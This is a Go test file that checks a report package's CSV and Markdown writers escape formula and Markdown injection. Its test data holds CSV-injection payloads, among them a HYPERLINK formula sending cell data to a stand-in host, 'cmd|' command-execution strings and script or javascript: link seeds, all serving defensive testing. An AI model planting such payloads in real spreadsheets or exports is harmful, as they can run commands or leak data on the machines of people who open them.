package report

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/codewatch/codewatch/internal/catalog"
	"github.com/codewatch/codewatch/internal/scan"
)

// hostileNames are file names that spreadsheets would read as formulas,
// and standard input's "-", which they would not.
var hostileNames = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
	"\t=1+1", "\r=1+1", "-", "plain.log", "a=b.log",
}

func hostileReport(t *testing.T) *Report {
	t.Helper()
	cat, err := catalog.Default().With([]catalog.Entry{{
		Code: catalog.Code{Name: "K_UID_BANNED", Description: "=1+1 says the catalog"}, Set: catalog.FName | catalog.FDescription,
	}})
	if err != nil {
		t.Fatal(err)
	}
	r := New("x")
	for _, name := range hostileNames {
		rd := scan.NewReader(scan.NewMatcher(cat, true), scan.Options{Body: scan.BodyNone})
		c := r.Count(name)
		st, err := rd.Scan(strings.NewReader("2026-03-01T10:00:00Z K_UID_BANNED ERR_NOT_IN_CATALOG\n"), c)
		if err != nil {
			t.Fatal(err)
		}
		c.Done(st, nil)
	}
	r.Failed("=evil.gz", errorString("-truncated gzip data"))
	return r
}

type errorString string

func (e errorString) Error() string { return string(e) }

// TestCSVInjection: the CSV's cells of text from outside that start like a
// formula get a leading quote, and nothing else changes.
func TestCSVInjection(t *testing.T) {
	r := hostileReport(t)
	var b bytes.Buffer
	if err := r.WriteCSV(&b); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var inputs, places []string
	for _, rec := range recs[1:] {
		for i, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && cell != "-" && !(rec[0] == "code" && i == 7) {
				t.Errorf("%s row, column %s: %q starts like a formula", rec[0], CSVHeader[i], cell)
			}
		}
		switch rec[0] {
		case "input":
			inputs = append(inputs, rec[1]+" | "+rec[16])
		case "code":
			places = append(places, rec[8], rec[11], rec[16])
		}
	}
	want := []string{
		`'=HYPERLINK("http://evil.example/?"&A1,"click") | `, "'+cmd|' /C calc'!A0 | ", "'-2+3+cmd|' /C calc'!A0 | ",
		"'@SUM(1+1)*cmd|' /C calc'!A0 | ", "'\t=1+1 | ", "'\r=1+1 | ", "- | ", "plain.log | ", "a=b.log | ",
		"'=evil.gz | '-truncated gzip data",
	}
	if diff := cmp.Diff(want, inputs); diff != "" {
		t.Errorf("input rows (-want +got):\n%s", diff)
	}
	if want := []string{"'\t=1+1", "plain.log", "'=1+1 says the catalog"}; !cmp.Equal(want, places) {
		t.Errorf("code row's first file, last file and description: %q, want %q", places, want)
	}
}

// TestMarkdownInjection: the same in the Markdown tables.
func TestMarkdownInjection(t *testing.T) {
	r := hostileReport(t)
	var b bytes.Buffer
	if err := r.WriteMarkdown(&b); err != nil {
		t.Fatal(err)
	}
	md := b.String()
	for _, want := range []string{
		"| `'?=1+1:1` 2026-03-01T10:00:00.000Z | `plain.log:1` 2026-03-01T10:00:00.000Z | '=1+1 says the catalog |",
		"| `'=evil.gz` | 0 | '-truncated gzip data |",
	} {
		if !strings.Contains(md, want) {
			t.Errorf("markdown lacks %q:\n%s", want, md)
		}
	}
	if strings.Contains(md, "| =") || strings.Contains(md, "| `=") {
		t.Errorf("a cell starts like a formula:\n%s", md)
	}
}

// FuzzMarkdownCell: text from outside in a Markdown table cell stays in
// its cell and shows as written: mdText leaves no line break, no < or >
// (HTML), no unescaped | (a new cell), no [ ] ` * _ ~ \ that Markdown
// would act on, and no control character; mdCode fences any text in more
// backticks than it holds in a row, with no line break and no unescaped |.
// Neither starts like a formula once FormulaSafe has had the text.
func FuzzMarkdownCell(f *testing.F) {
	for _, s := range []string{"a|b", "``x`", "<script>", "[x](javascript:alert(1))", "\\|", "=1+1", "\r\n", "*_~", "\x1b[31m", "é"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		text := mdText(FormulaSafe(s))
		escaped := false
		for i, r := range text {
			switch {
			case escaped:
				escaped = false
			case r == '\\':
				escaped = true
			case strings.ContainsRune("|[]`*_~<>\n\r", r) || r < 0x20 || r == 0x7f:
				t.Fatalf("mdText(%q) = %q: %q at %d unescaped", s, text, r, i)
			}
		}
		if escaped {
			t.Fatalf("mdText(%q) = %q ends in a lone backslash", s, text)
		}
		if strings.ContainsAny(text[:min(len(text), 1)], "=+-@") && text != "-" {
			t.Fatalf("mdText(FormulaSafe(%q)) = %q starts like a formula", s, text)
		}

		code := mdCode(FormulaSafe(s))
		if s == "" && code == "" {
			return
		}
		if strings.ContainsAny(code, "\n\r") {
			t.Fatalf("mdCode(%q) = %q holds a line break", s, code)
		}
		n := 0
		for n < len(code) && code[n] == '`' {
			n++
		}
		fence := code[:n]
		if n == 0 || !strings.HasSuffix(code, fence) || len(code) < 2*n {
			t.Fatalf("mdCode(%q) = %q is not fenced", s, code)
		}
		inner := code[n : len(code)-n]
		if strings.Contains(inner, fence) {
			t.Fatalf("mdCode(%q) = %q: the fence %q appears inside", s, code, fence)
		}
		for i := 0; i < len(inner); i++ {
			if inner[i] == '|' && (i == 0 || inner[i-1] != '\\') {
				t.Fatalf("mdCode(%q) = %q: | unescaped", s, code)
			}
		}
	})
}
